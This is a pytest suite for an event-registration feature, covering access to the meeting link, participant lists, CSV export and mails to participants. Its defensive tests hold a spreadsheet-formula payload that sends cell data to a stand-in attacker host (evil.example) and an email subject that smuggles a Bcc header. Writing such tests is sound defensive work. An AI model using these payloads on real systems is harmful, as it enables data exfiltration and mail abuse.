"""The routes: who may use them, bad input, and the meeting link that only participants see."""

import csv
import io

from wagtail.models import Page

import pytest

from event_registrations.models import Registration, Status
from tests.event_registrations.helpers import (
    MEETING,
    committed,
    event_with_registration,
    register_guest,
    register_member,
)
from tests.events.factories import EventPageFactory
from tests.helpers import english_tree
from tests.members.factories import UserFactory
from tests.regions.factories import RegionPageFactory
from tests.regions.helpers import logged_in, set_team

pytestmark = pytest.mark.django_db


@pytest.fixture
def event(region):
    return event_with_registration(region, capacity=5)


def test_a_member_registers_in_one_click_and_sees_the_meeting_link(event, member, client):
    client.force_login(member)
    assert MEETING not in client.get(event.url).content.decode()
    with committed():
        response = client.post(f"/anmeldung/veranstaltung/{event.pk}/", {"consent": "on"})
    assert response.status_code == 302
    assert Registration.objects.get(user=member).status == Status.CONFIRMED
    assert MEETING in client.get(event.url).content.decode()


def test_the_meeting_link_never_reaches_anyone_else(event, member, client, settings):
    register_member(event, member)
    other = logged_in(UserFactory(verified=True))
    urls = [
        event.url,
        event.url + "kalender/",
        "/veranstaltungen/kalender/",
        "/api/v3/events/",
        f"/api/v3/pages/{event.pk}/",
        "/api/v3/pages/?type=events.EventPage&fields=*",
        f"/suche/?q={event.title}",
        "/suche/?q=geheimer-raum",
        f"/api/v3/actions/?q={event.title}",
    ]
    for url in urls:
        for who in (client, other):
            assert MEETING not in who.get(url).content.decode(), url


def test_guests_get_the_form_and_a_mail_to_confirm(event, client, smtp):
    response = client.get(f"/anmeldung/veranstaltung/{event.pk}/")
    assert response.status_code == 200
    assert 'name="email"' in response.content.decode()
    with committed():
        response = client.post(
            f"/anmeldung/veranstaltung/{event.pk}/",
            {"name": "Gerda Gast", "email": "gerda@example.org", "consent": "on"},
        )
    assert response.status_code == 200
    assert Registration.objects.get(email="gerda@example.org").status == Status.PENDING
    assert len(smtp.to("gerda@example.org")) == 1


@pytest.mark.parametrize(
    "data",
    [
        {"name": "Gerda\x00", "email": "g@example.org", "consent": "on"},
        {"name": "G" * 5000, "email": "g@example.org", "consent": "on"},
        {"name": "Gerda", "email": "not an address", "consent": "on"},
        {"name": "Gerda", "email": "g@example.org"},
    ],
)
def test_bad_guest_input_is_a_400(event, client, data):
    response = client.post(f"/anmeldung/veranstaltung/{event.pk}/", data)
    assert response.status_code == 400
    assert not Registration.objects.exists()


def test_unknown_closed_and_past_events_are_refused(region, client, member):
    assert client.get("/anmeldung/veranstaltung/999999999/").status_code == 404
    assert client.get("/anmeldung/veranstaltung/99999999999999999999999/").status_code in (400, 404)
    without = EventPageFactory(parent=region)
    assert client.get(f"/anmeldung/veranstaltung/{without.pk}/").status_code == 404
    past = event_with_registration(region, days=-2)
    client.force_login(member)
    response = client.post(f"/anmeldung/veranstaltung/{past.pk}/", {"consent": "on"})
    assert response.status_code == 409
    assert not Registration.objects.exists()


def test_cancel_link_shows_a_button_and_post_cancels(event, member, client, smtp):
    register_member(event, member)
    link = [line for line in smtp.text_of(smtp.to(member.email)[0]).split() if "/stornieren/" in line][0]
    path = link.split("localhost", 1)[-1] if "localhost" in link else "/" + link.split("/", 3)[3]
    assert client.get(path).status_code == 200
    assert Registration.objects.get().status == Status.CONFIRMED
    with committed():
        assert client.post(path).status_code == 200
    assert Registration.objects.get().status == Status.CANCELLED
    assert client.get("/anmeldung/stornieren/forged/").status_code == 404
    assert client.get("/anmeldung/bestaetigen/" + "x" * 300 + "/").status_code == 404


def test_only_the_events_team_and_editors_see_participants(event, member, moderator, editor, region_index):
    register_member(event, member)
    other_region = RegionPageFactory(parent=region_index, title="Wendland", slug="wendland")
    other_moderator = UserFactory(verified=True)
    set_team(other_region, [other_moderator])
    urls = [
        f"/admin/event-registrations/{event.pk}/participants/",
        f"/admin/event-registrations/{event.pk}/participants.csv",
        f"/admin/event-registrations/{event.pk}/settings/",
        f"/admin/event-registrations/{event.pk}/message/",
    ]
    for url in urls:
        assert logged_in(other_moderator).get(url).status_code in (302, 403), url
        assert logged_in(member).get(url).status_code in (302, 403), url
        assert logged_in(moderator).get(url).status_code == 200, url
        assert logged_in(editor).get(url).status_code == 200, url
    csv = logged_in(moderator).get(urls[1]).content.decode("utf-8")
    assert csv.startswith("\ufeff") and member.email in csv and ";" in csv
    assert logged_in(moderator).get(urls[0] + "?datum=nonsense").status_code == 404


def test_the_team_marks_attendance_and_writes_to_participants(event, member, moderator, smtp):
    registration = register_member(event, member)
    team = logged_in(moderator)
    url = f"/admin/event-registrations/{event.pk}/participants/"
    assert team.post(url, {f"attended_{registration.pk}": "maybe"}).status_code == 400
    assert team.post(url, {f"attended_{registration.pk}": "yes"}).status_code == 302
    registration.refresh_from_db()
    assert registration.attended is True
    with committed():
        response = team.post(
            f"/admin/event-registrations/{event.pk}/message/",
            {"subject": "Raum geändert", "text": "<b>Raum 2</b>"},
        )
    assert response.status_code == 302
    message = smtp.to(member.email)[-1]
    assert "<b>Raum 2</b>" in smtp.text_of(message)
    assert message.get_content_type() == "text/plain"


def test_the_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(event, moderator):
    formula = '=HYPERLINK("http://evil.example/?d="&A2;"Klick")'
    register_guest(event, "formel@example.org", name=formula)
    register_guest(event, "plus@example.org", name="+49 170 1234")
    response = logged_in(moderator).get(f"/admin/event-registrations/{event.pk}/participants.csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = {row[1]: row[0] for row in rows[1:]}
    assert names == {"formel@example.org": "'" + formula, "plus@example.org": "'+49 170 1234"}


def test_attendance_of_one_date_returns_to_that_date(region, member, moderator):
    event = event_with_registration(region, capacity=5, per_date=True)
    registration = register_member(event, member, event.start)
    team = logged_in(moderator)
    url = f"/admin/event-registrations/{event.pk}/participants/"
    date = {"datum": event.start.isoformat()}
    page = team.get(url, date)
    assert page.status_code == 200 and member.email in page.content.decode()
    response = team.post(url, {**date, f"attended_{registration.pk}": "no"})
    assert response.status_code == 302
    assert team.get(response["Location"]).status_code == 200
    registration.refresh_from_db()
    assert registration.attended is False


def test_the_english_page_of_the_event_takes_registrations_for_the_same_seats(event, member, client):
    english_tree()
    english_page = Page.objects.get(translation_key=event.translation_key, locale__language_code="en")
    assert 'id="anmeldung"' in client.get(english_page.url).content.decode()
    client.force_login(member)
    html = client.get(english_page.url).content.decode()
    assert f'action="/en/anmeldung/veranstaltung/{event.pk}/"' in html
    with committed():
        response = client.post(
            f"/en/anmeldung/veranstaltung/{event.pk}/", {"consent": "on", "next": english_page.url}
        )
    assert response["Location"] == english_page.url
    assert MEETING in client.get(english_page.url).content.decode()
    # The English page itself is no second event with seats of its own.
    assert client.get(f"/en/anmeldung/veranstaltung/{english_page.pk}/").status_code == 404


@pytest.mark.parametrize(
    "data",
    [
        {"subject": "Raum\r\nBcc: alle@example.org", "text": "Hallo"},
        {"subject": "Raum", "text": "Hallo\x00"},
        {"subject": "R" * 151, "text": "Hallo"},
        {"subject": "Raum", "text": "x" * 5001},
        {"subject": "", "text": "Hallo"},
    ],
)
def test_a_bad_message_is_a_400_and_nobody_is_mailed(event, member, moderator, smtp, data):
    register_member(event, member)
    with committed():
        response = logged_in(moderator).post(f"/admin/event-registrations/{event.pk}/message/", data)
    assert response.status_code == 400
    assert len(smtp.to(member.email)) == 1  # the confirmation only


def test_an_old_cancel_link_of_an_anonymised_registration_mails_nobody(event_index, member, client, smtp):
    registration = register_member(event_with_registration(event_index), member)
    link = [line for line in smtp.text_of(smtp.to(member.email)[0]).split() if "/stornieren/" in line][0]
    Registration.objects.filter(pk=registration.pk).update(user=None, name="", email="")
    before = len(smtp.messages)
    with committed():
        assert client.post("/" + link.split("/", 3)[3]).status_code == 200
    assert len(smtp.messages) == before
